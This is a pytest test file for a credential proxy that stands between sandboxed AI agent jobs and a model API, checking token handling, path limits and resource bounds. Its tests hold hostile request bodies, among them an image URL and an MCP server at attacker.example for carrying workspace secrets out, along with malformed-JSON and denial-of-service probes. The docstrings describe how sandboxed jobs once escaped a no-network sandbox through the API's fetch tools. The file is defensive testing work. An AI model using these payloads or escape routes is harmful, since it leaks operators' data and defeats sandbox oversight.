"""The worker's credential proxy on its own: job tokens are swapped for the real key; a warming
token is answered by the proxy itself and never reaches the model API."""

import contextlib
import gzip
import json
import socket
import time
from collections import deque
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from shared.http_head import BoundedHead
from tests.conftest import begun_requests, closed_by_peer
from tests.fake_anthropic import FakeAnthropic, Reply
from worker import credential_proxy
from worker.credential_proxy import (
    DOOR_CONNECTIONS,
    MAX_BODY_BYTES,
    MAX_CONNECTIONS,
    CredentialProxy,
    api_key_header,
)

MESSAGE = {"model": "claude-haiku-4-5", "max_tokens": 10, "stream": True, "messages": []}


@pytest.fixture(scope="module")
def proxy(fake_anthropic: FakeAnthropic, tmp_path_factory: pytest.TempPathFactory) -> CredentialProxy:
    proxy = CredentialProxy(fake_anthropic.url, api_key_header("the-real-key"))
    proxy.start(tmp_path_factory.mktemp("proxy") / "model.sock")  # a daemon thread: ends with the run
    return proxy


def via(proxy: CredentialProxy) -> httpx.Client:
    """A client of the proxy's Unix socket, as the CLI is."""
    return httpx.Client(transport=httpx.HTTPTransport(uds=str(proxy.socket)), base_url="http://localhost")


def events(response: httpx.Response) -> list[str]:
    return [line.removeprefix("event: ") for line in response.text.splitlines() if line.startswith("event: ")]


def test_a_warming_token_gets_a_free_reply_from_the_proxy_until_admitted(
    proxy: CredentialProxy, upstream: FakeAnthropic
) -> None:
    token = proxy.issue(warming=True)
    headers = {"x-api-key": token}
    reply = via(proxy).post("/v1/messages?beta=true", json=MESSAGE, headers=headers)
    assert reply.status_code == 200
    assert events(reply) == [
        "message_start",
        "content_block_start",
        "content_block_delta",
        "content_block_stop",
        "message_delta",
        "message_stop",
    ]
    assert '"input_tokens": 0' in reply.text
    assert "claude-haiku-4-5" in reply.text
    counted = via(proxy).post("/v1/messages/count_tokens", json=MESSAGE, headers=headers)
    assert counted.status_code == 404
    assert upstream.received == []  # nothing reached the model API

    proxy.admit(token)
    forwarded = via(proxy).post("/v1/messages", json=MESSAGE, headers=headers)
    assert forwarded.status_code == 200
    assert "Hello" in forwarded.text
    assert upstream.credentials == ["the-real-key"]

    proxy.revoke(token)
    for presented in (token, "made-up"):
        refused = via(proxy).post("/v1/messages", json=MESSAGE, headers={"x-api-key": presented})
        assert refused.status_code == 401
    assert len(upstream.requests) == 1


def test_a_job_token_reaches_only_the_messages_api(proxy: CredentialProxy, upstream: FakeAnthropic) -> None:
    """A tool holding its job's token cannot use the operator's credential for the rest of the API."""
    headers = {"x-api-key": proxy.issue()}
    refused = [
        ("GET", "/v1/models"),
        ("GET", "/v1/files"),
        ("POST", "/v1/messages/batches"),
        ("GET", "/v1/messages"),
        ("DELETE", "/v1/files/file_1"),
        ("GET", "/v1/organizations/api_keys"),
        ("POST", "/v1/messages/../files"),
        ("POST", "/v1/messages%2f..%2ffiles"),
    ]
    for method, path in refused:
        response = via(proxy).request(method, path, json=MESSAGE, headers=headers)
        assert response.status_code == 403, (method, path)
        assert response.json()["error"]["type"] == "permission_error"
    assert upstream.received == []
    assert via(proxy).post("/v1/messages?beta=true", json=MESSAGE, headers=headers).status_code == 200
    via(proxy).post("/v1/messages/count_tokens", json=MESSAGE, headers=headers)
    assert upstream.received == ["POST /v1/messages", "POST /v1/messages/count_tokens"]


def test_a_job_token_has_the_model_api_reach_nothing_beyond_the_model(
    proxy: CredentialProxy, upstream: FakeAnthropic
) -> None:
    """Found by a hostile-caller probe: a job's Bash sent its own request with the `web_fetch`
    server tool (and MCP servers) through the proxy, and the model API fetched a URL carrying
    the workspace's data: a way out of a sandbox that has no network."""
    user = {"role": "user", "content": "fetch it"}
    fetch = [{"type": "web_fetch_20250910", "name": "web_fetch"}]
    search = [{"type": "web_search_20250305", "name": "web_search"}]
    url_image = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=secret"}}
    file_document = {"type": "document", "source": {"type": "file", "file_id": "file_of_the_operator"}}
    nested = {
        "type": "tool_result",
        "tool_use_id": "t",
        "content": [{"type": "document", "source": {"type": "content", "content": [url_image]}}],
    }
    refused = [
        {"tools": fetch},
        {"tools": search},  # this job was not given WebSearch
        {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
        {"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]},
        {"messages": [{"role": "user", "content": [url_image]}]},
        {"messages": [{"role": "user", "content": [file_document]}]},
        {"messages": [{"role": "user", "content": [nested]}]},
        {"system": [{"type": "text", "text": "x"}, url_image]},
        {
            "messages": [
                {
                    "role": "user",
                    "content": [{"type": "image", "source": {"type": "URL", "url": "https://a/"}}],
                }
            ]
        },
        {"tools": {"type": "web_fetch_20250910", "name": "web_fetch"}},  # an object, not a list
        # The second hostile-caller probe: a file by id in another block, a container (its files,
        # its skills), by id or described.
        {"messages": [{"role": "user", "content": [{"type": "container_upload", "file_id": "file_1"}]}]},
        {"container": "cntr_of_the_operator"},
        {"container": {"skills": [{"type": "anthropic", "skill_id": "pptx"}]}},
    ]
    headers = {"x-api-key": proxy.issue()}
    for extra in refused:
        response = via(proxy).post(
            "/v1/messages", json={**MESSAGE, "messages": [user], **extra}, headers=headers
        )
        assert response.status_code == 400, extra  # as the model API's refusal: its reason reaches the caller
        assert response.json()["error"]["message"].startswith("the gateway does not forward")
    assert upstream.received == []
    # A tool call's input is the tool's: a `source` there is nothing the model API fetches (the
    # third re-check probe: a todo item's refused the job's next turn).
    call = {
        "type": "tool_use",
        "id": "t1",
        "name": "TodoWrite",
        "input": {"todos": [{"source": url_image["source"]}]},
    }
    history = [
        user,
        {"role": "assistant", "content": [call]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1", "content": "ok"}]},
    ]
    answered = via(proxy).post("/v1/messages", json={**MESSAGE, "messages": history}, headers=headers)
    assert answered.status_code == 200, answered.text
    # What Claude Code sends: its own tools (no type), and web search for a job given WebSearch.
    tools = [{"name": "Bash", "description": "d", "input_schema": {"type": "object"}}]
    allowed = via(proxy).post(
        "/v1/messages", json={**MESSAGE, "messages": [user], "tools": tools}, headers=headers
    )
    assert allowed.status_code == 200
    searching = {"x-api-key": proxy.issue(credential_proxy.server_tools_of(["Bash", "WebSearch"]))}
    searched = via(proxy).post(
        "/v1/messages", json={**MESSAGE, "messages": [user], "tools": search}, headers=searching
    )
    assert searched.status_code == 200
    assert len(upstream.received) == 3


def test_a_body_the_proxy_cannot_check_is_not_forwarded(
    proxy: CredentialProxy, upstream: FakeAnthropic
) -> None:
    """Found by the re-check probe: a body the proxy could not parse went on unchecked (gzip, a
    key twice, invalid UTF-8, trailing bytes, deep nesting), and the model API might read it."""
    fetch = '[{"type": "web_fetch_20250910", "name": "web_fetch"}]'
    plain = json.dumps({**MESSAGE, "messages": [{"role": "user", "content": "hi"}]})[:-1]
    headers = {"x-api-key": proxy.issue(), "content-type": "application/json"}
    unreadable = [
        (gzip.compress(f'{plain}, "tools": {fetch}}}'.encode()), {"content-encoding": "gzip"}),
        (f'{plain}, "tools": {fetch}, "tools": []}}'.encode(), {}),
        (
            f'{plain}, "tools": [{{"type": "web_fetch_20250910", "type": "custom", "name": "x"}}]}}'.encode(),
            {},
        ),
        (f'{plain}, "tools": {fetch}, "x": "\xff"}}'.encode("latin-1"), {}),
        (f'{plain}, "tools": {fetch}}} \x00'.encode(), {}),
        (f'{plain}, "tools": {fetch}, "x": {"[" * 100_000}{"]" * 100_000}}}'.encode(), {}),
    ]
    for body, extra in unreadable:
        response = via(proxy).post("/v1/messages", content=body, headers={**headers, **extra})
        assert response.status_code in (400, 415), (body[:80], response.text)
    # The second probe: a second Content-Encoding line went on unchecked; a body not an object.
    encodings = [*headers.items(), ("content-encoding", "identity"), ("content-encoding", "gzip")]
    twice = via(proxy).post("/v1/messages", content=json.dumps(MESSAGE).encode(), headers=encodings)
    assert twice.status_code == 415, twice.text
    listed = via(proxy).post(
        "/v1/messages", content=f'[{plain}, "tools": {fetch}}}]'.encode(), headers=headers
    )
    assert listed.status_code == 400, listed.text
    # Counted before it is parsed: 33 MB of empty objects held the worker's loop for seconds, and
    # 900 MB of its memory (a probe).
    empties = json.dumps(
        {**MESSAGE, "messages": [{"role": "user", "content": "hi"}, *[{}] * 600_000]}
    ).encode()
    crowded = via(proxy).post("/v1/messages", content=empties, headers=headers)
    assert crowded.status_code == 400, crowded.text
    assert "more JSON values" in crowded.text
    assert upstream.received == []


def test_a_body_over_the_limit_is_refused_before_it_is_held(
    proxy: CredentialProxy, upstream: FakeAnthropic
) -> None:
    headers = {"x-api-key": proxy.issue(), "content-type": "application/json"}
    declared = via(proxy).post("/v1/messages", content=b" " * (MAX_BODY_BYTES + 1), headers=headers)
    assert declared.status_code == 413
    assert declared.json()["error"]["type"] == "request_too_large"

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        for _ in range(MAX_BODY_BYTES // 2**20 + 2):
            yield b" " * 2**20

    streamed = via(proxy).post("/v1/messages", content=chunks(), headers=headers)
    assert streamed.status_code == 413
    assert upstream.requests == []
    assert via(proxy).post("/v1/messages", json=MESSAGE, headers=headers).status_code == 200


def test_connections_beyond_the_limit_or_silent_ones_are_closed(
    proxy: CredentialProxy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A job cannot use up the worker's descriptors through the socket every sandbox shares."""
    assert proxy.socket is not None
    monkeypatch.setattr(BoundedHead, "head_timeout_s", 3.0)
    held = []
    opened = time.monotonic()
    for _ in range(MAX_CONNECTIONS + 10):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(str(proxy.socket))
        connection.settimeout(10)
        held.append(connection)
    try:
        # The last ten were closed at once; the first are closed once their head is overdue
        # (`head_timeout_s` from their opening) for sending nothing.
        assert all(connection.recv(1) == b"" for connection in held[-10:])
        assert held[0].recv(1) == b""
        assert time.monotonic() - opened > 2.5
    finally:
        for connection in held:
            connection.close()
    headers = {"x-api-key": proxy.issue()}
    assert via(proxy).post("/v1/messages", json=MESSAGE, headers=headers).status_code == 200


def test_a_door_full_of_begun_requests_holds_up_no_other_door(proxy: CredentialProxy, tmp_path: Path) -> None:
    """Each sandbox has a socket of its own: one whose every connection began a request it never
    finishes leaves another sandbox's socket serving (they shared one socket, of 256 at most)."""
    with proxy.door(tmp_path / "a.sock") as held_door, proxy.door(tmp_path / "b.sock") as other_door:
        held = begun_requests(held_door, DOOR_CONNECTIONS + 5, b"POST /v1/messages HTTP/1.1\r\n")
        try:
            assert all(closed_by_peer(connection) for connection in held[-5:])  # over the door's limit
            headers = {"x-api-key": proxy.issue()}
            transport = httpx.HTTPTransport(uds=str(other_door))
            with httpx.Client(transport=transport, base_url="http://localhost") as client:
                assert client.post("/v1/messages", json=MESSAGE, headers=headers).status_code == 200
        finally:
            for connection in held:
                connection.close()
    assert not (tmp_path / "a.sock").exists()  # a door closed is gone


def test_doors_full_of_streams_hold_up_no_other_door(
    proxy: CredentialProxy, upstream: FakeAnthropic, tmp_path: Path
) -> None:
    """Found by an outside probe: every door's requests went upstream through one client of 100
    connections (httpx's default), waiting up to its 600 s timeout for one: four jobs streaming
    through every connection of their doors held up every other job's model calls."""
    holders, each = 4, DOOR_CONNECTIONS - 1  # more than 100 streams in all
    upstream.by_prompt["hold the line"] = deque([Reply(tokens=["x"] * 40, delay_s=0.25)] * holders * each)
    body = json.dumps({**MESSAGE, "messages": [{"role": "user", "content": "hold the line"}]}).encode()
    head = (
        f"POST /v1/messages HTTP/1.1\r\nhost: localhost\r\nx-api-key: {proxy.issue()}\r\n"
        f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n"
    ).encode()
    with contextlib.ExitStack() as stack:
        doors = [stack.enter_context(proxy.door(tmp_path / f"{i}.sock")) for i in range(holders + 1)]
        streams = []
        for door in doors[:holders]:
            for _ in range(each):
                stream = stack.enter_context(socket.socket(socket.AF_UNIX))
                stream.connect(str(door))
                stream.sendall(head + body)
                streams.append(stream)
        deadline = time.monotonic() + 10
        while len(upstream.requests) < holders * each:  # every stream reached the model API
            assert time.monotonic() < deadline, f"{len(upstream.requests)} streams upstream"
            time.sleep(0.05)
        transport = httpx.HTTPTransport(uds=str(doors[-1]))
        with httpx.Client(transport=transport, base_url="http://localhost", timeout=5) as client:
            answered = client.post("/v1/messages", json=MESSAGE, headers={"x-api-key": proxy.issue()})
        assert answered.status_code == 200  # while the streams hold on (10 s each)


def test_a_request_head_past_its_bound_is_refused(proxy: CredentialProxy, tmp_path: Path) -> None:
    """Found by an outside probe: from inside a sandbox, one connection sending 1 MiB header lines
    grew the worker by 2 GB (no token needed: the head is read first). Past 64 KiB it is a 431."""
    with proxy.door(tmp_path / "door.sock") as door, socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(10)
        connection.connect(str(door))
        connection.sendall(b"POST /v1/messages HTTP/1.1\r\n")
        answer = b""
        try:
            for number in range(64):
                connection.sendall(b"x-filler-%d: %s\r\n" % (number, b"a" * 16 * 1024))
        except OSError:  # refused part-way, as it should be
            pass
        while chunk := connection.recv(65536):
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 431 "), answer[:200]


def _begin_body(door: Path, token: str, declared: int, sent: int) -> socket.socket:
    """A connection that has sent a request of `declared` body bytes, `sent` of them."""
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(10)
    connection.connect(str(door))
    head = f"POST /v1/messages HTTP/1.1\r\nhost: localhost\r\nx-api-key: {token}\r\n"
    connection.sendall(f"{head}content-length: {declared}\r\n\r\n".encode())
    with contextlib.suppress(OSError):  # refused part-way
        connection.sendall(b"x" * sent)
    return connection


def test_a_sandboxs_begun_bodies_hold_a_bounded_share_of_the_worker(
    proxy: CredentialProxy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Found by an outside probe: each of a job's 32 connections held a 32 MiB body begun and never
    finished, with no time limit: 1 GiB of the worker per job. A sandbox's bodies now hold at most
    64 MiB at once, and a body not whole within its time limit is refused."""
    token = proxy.issue()
    size = 24 * 1024 * 1024
    with proxy.door(tmp_path / "door.sock") as door:
        held = [_begin_body(door, token, size + 1, size) for _ in range(2)]
        try:
            third = _begin_body(door, token, size + 1, size)
            assert third.recv(12) == b"HTTP/1.1 413"
            third.close()
        finally:
            for connection in held:
                connection.close()
        time.sleep(0.5)  # their bodies given back: the door takes one again
        monkeypatch.setattr(credential_proxy, "BODY_TIMEOUT_S", 1)
        with _begin_body(door, token, size + 1, size) as late:
            assert late.recv(12) == b"HTTP/1.1 408"
